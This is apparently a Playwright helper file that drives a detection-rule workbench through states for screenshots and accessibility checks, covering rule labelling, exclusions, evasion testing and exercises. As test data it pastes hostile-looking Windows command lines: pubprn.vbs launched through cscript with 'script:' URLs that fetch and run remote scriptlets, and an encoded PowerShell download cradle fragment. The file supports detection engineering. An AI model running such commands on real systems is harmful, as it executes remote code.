// The states of the page that pictures are taken of, and that are checked for accessibility. Each
// starts from the freshly opened page; `reach` does what a person would do to get there.

import { write } from './editor.mjs';
import { zipFile } from './zip-file.mjs';

/** Puts a text into the editor, as pasting does, and waits for its verdicts. */
export async function paste(page, text) {
  await pane(page, 'Events');
  await write(page.getByLabel('Events: command lines or log records'), text);
  await page.getByTestId('headline').waitFor({ state: 'attached' });
}

/** Waits until the first glance says this. */
export const headline = (page, text) =>
  page.getByTestId('headline').getByText(text, { exact: true }).waitFor();

/** Brings a pane to the front where only one is shown at a time. */
export async function pane(page, name) {
  const button = page.getByRole('group', { name: 'Pane' }).getByRole('button', { name });
  if (await button.isVisible()) await button.click();
}

/** Loads a sample from the welcome. */
export async function sample(page, title) {
  await pane(page, 'Events');
  await page.getByRole('list', { name: 'Samples' }).getByRole('button', { name: title }).click();
  await page.getByTestId('headline').waitFor({ state: 'attached' });
}

/** The list of events. */
export const events = (page) => page.getByRole('grid', { name: 'Events' });

/** Selects the first event of the list whose text has this in it. */
export async function choose(page, text) {
  await pane(page, 'Verdicts');
  await events(page).getByRole('row').filter({ hasText: text }).first().click();
}

/** Labels the first event of the list whose text has this in it. */
export async function label(page, text, name) {
  await pane(page, 'Verdicts');
  const row = events(page).getByRole('row').filter({ hasText: text }).first();
  await row.getByRole('button', { name }).click();
}

const scripts = 'C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US';
const labelled = `cscript.exe //b ${scripts}\\pubprn.vbs 127.0.0.1 script:https://example.com/forms/list.sct
cscript.exe //nologo ${scripts}\\pubprn.vbs print01 script:https://example.net/a.sct
cscript.exe //nologo ${scripts}\\pubprn.vbs print01.example.com "LDAP://OU=Printers,DC=example,DC=com"
C:\\Windows\\System32\\findstr.exe /n /i "script:" ${scripts}\\pubprn.vbs
cscript.exe //nologo ${scripts}\\prnmngr.vbs -l -s print01.example.com
`;

/** Labels events so that a rule has something to exclude, and asks for exclusions. */
export async function exclusions(page) {
  await paste(page, labelled);
  await label(page, 'example.com/forms', 'malicious');
  await label(page, 'example.net', 'malicious');
  await label(page, 'findstr', 'benign');
  await choose(page, 'findstr');
  await page.getByRole('button', { name: 'Suggest from labelled events' }).click();
  await page.getByText('Exclusions, best first').waitFor();
}

/** Tries to evade the rules that match the first event of a sample. */
export async function evasion(page) {
  await sample(page, 'First look');
  await choose(page, 'pubprn.vbs');
  await page.getByRole('button', { name: 'Try to evade' }).click();
  await page.getByRole('region', { name: 'Changes and rules' }).waitFor();
}

export async function openRules(page) {
  await page.getByRole('navigation', { name: 'Views' }).getByRole('link', { name: 'Rules' }).click();
}

/** Opens the dialog that makes a link. */
export async function share(page) {
  await page.getByRole('button', { name: 'Share' }).click();
  await page.getByRole('textbox', { name: /^Link/ }).waitFor();
}

/** Opens the dialog that converts the rule on show. */
export async function convert(page) {
  await page.getByRole('button', { name: 'Convert…' }).click();
  await page.getByRole('button', { name: 'Copy the query' }).waitFor();
}

/** Begins a rule of one's own, in the view of rules. */
export async function writeRule(page, source) {
  await openRules(page);
  await page.getByRole('button', { name: 'New rule' }).click();
  await write(page.getByLabel('Text of your rule'), source);
}

export async function openGuide(page) {
  await page.getByRole('navigation', { name: 'Views' }).getByRole('link', { name: 'Guide' }).click();
  await page.getByRole('heading', { name: 'Guide' }).waitFor();
}

export async function openExercises(page) {
  await page.getByRole('navigation', { name: 'Views' }).getByRole('link', { name: 'Exercises' }).click();
  await page.getByText(/of \d+ solved/).waitFor();
}

export async function openExercise(page, title) {
  await page.getByRole('link', { name: title }).click();
  await page.getByRole('heading', { name: title }).waitFor();
  await page.getByText(/^\d of \d goals met$/).waitFor({ state: 'attached' });
}

/** Brings a part of the guide to the front, with whichever switch is on the screen. */
export async function part(page, name) {
  for (const group of ['Part of the guide', 'Values']) {
    const button = page.getByRole('group', { name: group }).getByRole('button', { name });
    if (await button.isVisible()) return button.click();
  }
}

const brokenRule = `title: Broken
logsource:
  product: windows
  category: process_creation
detection:
  selection:
    CommandLine|conatins: 'pubprn'
  condition: selection and not filter
`;

export const states = [
  { name: 'start', reach: async () => {} },
  {
    name: 'keys',
    reach: async (page) => {
      await page.getByRole('link', { name: 'Guide', exact: true }).focus();
      await page.keyboard.press('?');
      await page.getByRole('dialog', { name: 'Keyboard' }).waitFor();
    },
  },
  {
    name: 'share',
    reach: async (page) => {
      await paste(page, 'cscript C:\\Users\\mjones\\pubprn.vbs \\\\FILESRV01\\x script:http://10.1.2.3/a\npowershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA');
      await share(page);
      await page.getByLabel(/^Events, with labels/).check();
      await page.getByText('user1').waitFor();
    },
  },
  {
    name: 'shared-work',
    reach: async (page) => {
      await paste(page, 'cscript C:\\pubprn.vbs script:https://example.com/a\nipconfig');
      await share(page);
      await page.getByLabel(/^Events, with labels/).check();
      await page.getByText('No names were found').waitFor();
      const address = await page.getByRole('textbox', { name: /^Link/ }).inputValue();
      await page.getByRole('dialog').getByRole('button', { name: 'Close' }).click();
      await page.goto(address);
      await page.getByRole('button', { name: 'Open it' }).waitFor();
    },
  },
  { name: 'sample', reach: (page) => sample(page, 'First look') },
  {
    name: 'match',
    reach: async (page) => {
      await sample(page, 'First look');
      await choose(page, 'pubprn.vbs');
    },
  },
  {
    name: 'labels',
    reach: async (page) => {
      await sample(page, 'First look');
      await label(page, 'LDAP', 'benign');
      await label(page, 'script:', 'malicious');
      await label(page, 'winrm enumerate', 'malicious');
      await label(page, 'VsWherePath', 'benign');
      await page.getByRole('button', { name: 'unexpected' }).waitFor();
    },
  },
  {
    name: 'exclusions',
    reach: async (page) => {
      await exclusions(page);
      await page.getByRole('button', { name: /^Add the exclusion/ }).first().scrollIntoViewIfNeeded();
    },
  },
  {
    name: 'exclusion-preview',
    reach: async (page) => {
      await exclusions(page);
      await page.getByRole('button', { name: /^Add the exclusion/ }).first().click();
      await page.getByRole('dialog').getByRole('button', { name: 'Copy', exact: true }).waitFor();
    },
  },
  {
    name: 'exclusions-unlabelled',
    reach: async (page) => {
      await sample(page, 'First look');
      await choose(page, 'pubprn.vbs');
      await page.getByRole('button', { name: 'Suggest from labelled events' }).click();
      await page.getByText('No event is labelled.').scrollIntoViewIfNeeded();
    },
  },
  {
    name: 'evasion',
    reach: async (page) => {
      await evasion(page);
      await page.getByRole('heading', { name: 'Evasion' }).scrollIntoViewIfNeeded();
    },
  },
  {
    name: 'evasion-open',
    reach: async (page) => {
      await evasion(page);
      const first = page.getByRole('row').filter({ hasText: 'evades' }).first().getByRole('button');
      await first.click();
      await first.scrollIntoViewIfNeeded();
    },
  },
  {
    name: 'repair-preview',
    reach: async (page) => {
      await evasion(page);
      await page.getByRole('row', { name: /^Forward slashes in paths/ }).getByRole('button').click();
      await page.getByRole('button', { name: /^Preview the repair/ }).first().click();
      await page.getByRole('dialog').getByRole('button', { name: 'Copy', exact: true }).waitFor();
    },
  },
  {
    name: 'reach-source',
    reach: async (page) => {
      await openGuide(page);
      const source = page.getByRole('region', { name: 'Where reach is from' });
      await source.getByText('SigmaHQ/sigma').waitFor();
      const rule = 'title: R\nlogsource: {}\ndetection:\n  a:\n    CommandLine: winrm\n  condition: a\n';
      await page.locator('#reach-file').setInputFiles({ name: 'a.yml', mimeType: 'text/plain', buffer: Buffer.from(rule) });
      await source.getByText('a.yml: 1 rule').waitFor();
      await source.scrollIntoViewIfNeeded();
    },
  },
  {
    name: 'guide-logs',
    reach: async (page) => {
      await openGuide(page);
      await part(page, 'Logs');
      await page.getByRole('region', { name: 'Rules and logs' }).waitFor();
    },
  },
  {
    name: 'rule-logs',
    reach: async (page) => {
      await openRules(page);
      await page.getByRole('link', { name: /manage-bde\.wsf/i }).click();
      await page.getByRole('heading', { name: 'Logs it can match in' }).scrollIntoViewIfNeeded();
    },
  },
  {
    name: 'cannot-tell',
    reach: async (page) => {
      await paste(page, 'wscript.exe "C:\\Temp\\manage-bde.wsf" -status\nwinrm qc -format:pretty\n');
      await choose(page, 'winrm');
    },
  },
  {
    name: 'children',
    reach: async (page) => {
      await sample(page, 'Nested and encoded');
      await pane(page, 'Verdicts');
    },
  },
  { name: 'records', reach: (page) => sample(page, 'Event log export') },
  {
    name: 'diagnostics',
    reach: async (page) => {
      await paste(page, '{"CommandLine":"cscript pubprn.vbs x script:http://a/b"}\n{"CommandLine": oops}\n{"Image":"C:\\\\x.exe"}\n');
      await pane(page, 'Events');
    },
  },
  {
    name: 'long-line',
    reach: async (page) => {
      await paste(page, `cscript C:\\Windows\\pubprn.vbs ${'A'.repeat(20000)} script:http://a/b ${'B'.repeat(20000)}`);
      await choose(page, 'pubprn');
    },
  },
  {
    name: 'rules',
    reach: async (page) => {
      await openRules(page);
      await page.getByRole('switch').first().waitFor();
    },
  },
  {
    name: 'rule',
    reach: async (page) => {
      await openRules(page);
      await page.getByRole('link', { name: /CL_Mutexverifiers/i }).click();
      await page.getByRole('region', { name: 'Text of the rule' }).waitFor();
    },
  },
  {
    name: 'convert',
    reach: async (page) => {
      await openRules(page);
      await page.getByRole('link', { name: /CL_Mutexverifiers/i }).click();
      await convert(page);
    },
  },
  {
    name: 'map',
    reach: async (page) => {
      const lines = [
        'cscript C:\\Tools\\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct',
        'wscript manage-bde.wsf',
        'notepad.exe',
        'powershell.exe -Command SyncInvoke calc',
        'cscript //b x.vbs',
        'notepad.exe',
      ];
      await paste(page, Array.from({ length: 240 }, (_, at) => lines[(at * at + (at >> 3)) % 6]).join('\n'));
      await pane(page, 'Verdicts');
      await page.getByText('Map of rules and events').click();
      await page.getByText('As a table').click();
    },
  },
  {
    name: 'compare',
    reach: async (page) => {
      await paste(page, 'cscript a.vbs\nwscript b.wsf\ncscript c.vbs d.wsf\nwscript C:\\Windows\\x.vbs');
      const rule = (value) =>
        `title: Scripts\nlogsource: {product: windows, category: process_creation}\ndetection:\n  selection:\n    CommandLine|contains: '${value}'\n  condition: selection\n`;
      await writeRule(page, rule('.vbs'));
      await page.getByRole('button', { name: 'Compare from here' }).click();
      await write(page.getByLabel('Text of your rule'), rule('.wsf'));
      await page.getByText('no longer a match').waitFor();
    },
  },
  {
    name: 'rule-sets',
    reach: async (page) => {
      await openRules(page);
      const rule = (at, modifier) =>
        `title: Rule ${at}\nlogsource: {product: windows}\nlevel: high\ndetection:\n  a:\n    CommandLine|${modifier}: 'word${at}'\n  condition: a\n`;
      const buffer = zipFile({
        ...Object.fromEntries(Array.from({ length: 12 }, (_, at) => [`detections/${at}.yml`, rule(at, 'contains')])),
        'detections/broken.yml': rule(13, 'contians'),
      });
      await page.locator('#set-file').setInputFiles({ name: 'detections.zip', mimeType: 'application/zip', buffer });
      await page.getByRole('button', { name: 'Evaluate them' }).click();
      await page.getByText('What is not evaluated in full').click();
      await page.locator('#set-file').setInputFiles({ name: 'more.zip', mimeType: 'application/zip', buffer });
      await page.getByText('What are the 13 files of more for?').waitFor();
    },
  },
  {
    name: 'guide',
    reach: async (page) => {
      await openGuide(page);
      await page.getByRole('heading', { name: 'Fields filtered most' }).waitFor();
    },
  },
  {
    name: 'guide-values',
    reach: async (page) => {
      await openGuide(page);
      await part(page, 'Indicators');
      await page.getByRole('button', { name: /powershell\.exe$/ }).first().click();
    },
  },
  {
    name: 'guide-exclusions',
    reach: async (page) => {
      await openGuide(page);
      await part(page, 'Exclusions');
    },
  },
  {
    name: 'fields',
    reach: async (page) => {
      await page.getByRole('navigation', { name: 'Views' }).getByRole('link', { name: 'Fields' }).click();
      await page.getByRole('heading', { name: 'Names of fields' }).waitFor();
    },
  },
  {
    name: 'formats',
    reach: async (page) => {
      await paste(page, 'cscript C:\\x\\pubprn.vbs a script:http://b\n{"Image":"C:\\\\x.exe","CommandLine":"x"}\n');
      await pane(page, 'Events');
      await page.getByRole('button', { name: 'Which, and why?' }).click();
    },
  },
  {
    name: 'rule-eql',
    reach: async (page) => {
      await openRules(page);
      await page.getByRole('link', { name: /Delayed Execution via Ping/ }).click();
      await page.getByRole('region', { name: 'Text of the rule' }).waitFor();
    },
  },
  {
    name: 'rule-spl',
    reach: async (page) => {
      await openRules(page);
      await page.getByRole('link', { name: /Bash -c Execution.*Sysmon/ }).click();
      await page.getByRole('region', { name: 'Text of the rule' }).waitFor();
    },
  },
  {
    name: 'own-rule-eql',
    reach: async (page) => {
      await openRules(page);
      await page.getByLabel('New rule from a template').selectOption('Elastic EQL');
      await page.getByText('No problems found.').waitFor();
    },
  },
  {
    name: 'own-rule-broken',
    reach: async (page) => {
      await openRules(page);
      await page.getByRole('button', { name: 'New rule' }).click();
      await write(page.getByLabel('Text of your rule'), brokenRule);
      await page.getByRole('region', { name: 'Problems in the rule' }).waitFor();
    },
  },
  {
    name: 'about',
    reach: async (page) => {
      await page.getByRole('button', { name: 'About' }).click();
      await page.getByRole('dialog').waitFor();
    },
  },
  {
    name: 'label-figures',
    reach: async (page) => {
      await sample(page, 'First look');
      await label(page, 'LDAP', 'benign');
      await label(page, 'script:', 'malicious');
      await label(page, 'winrm enumerate', 'malicious');
      await page.getByText(/broken$/).first().click();
      await page.getByRole('region', { name: 'Labels by rule' }).waitFor();
    },
  },
  { name: 'exercises', reach: openExercises },
  {
    name: 'exercise',
    reach: async (page) => {
      await openExercises(page);
      await openExercise(page, 'The line without a path');
      await page.getByText('missed').waitFor();
    },
  },
  {
    name: 'exercise-answer-large',
    reach: async (page) => {
      await openExercises(page);
      await openExercise(page, 'The line without a path');
      await page.getByRole('button', { name: /hint/ }).click();
      await page.getByRole('button', { name: 'Show the answer' }).click();
      await page.getByLabel('Large').check();
    },
  },
  {
    name: 'instructor',
    reach: async (page) => {
      await openExercises(page);
      await page.getByRole('link', { name: /^Write your own/ }).click();
      const file = { name: 'mine.yml', mimeType: 'text/yaml', buffer: Buffer.from('cutout-exercise: 1\nid: mine\ntitel: x\n') };
      await page.getByLabel('Files of exercises').setInputFiles(file);
      await page.getByRole('region', { name: 'Problems in mine.yml' }).waitFor();
    },
  },
];
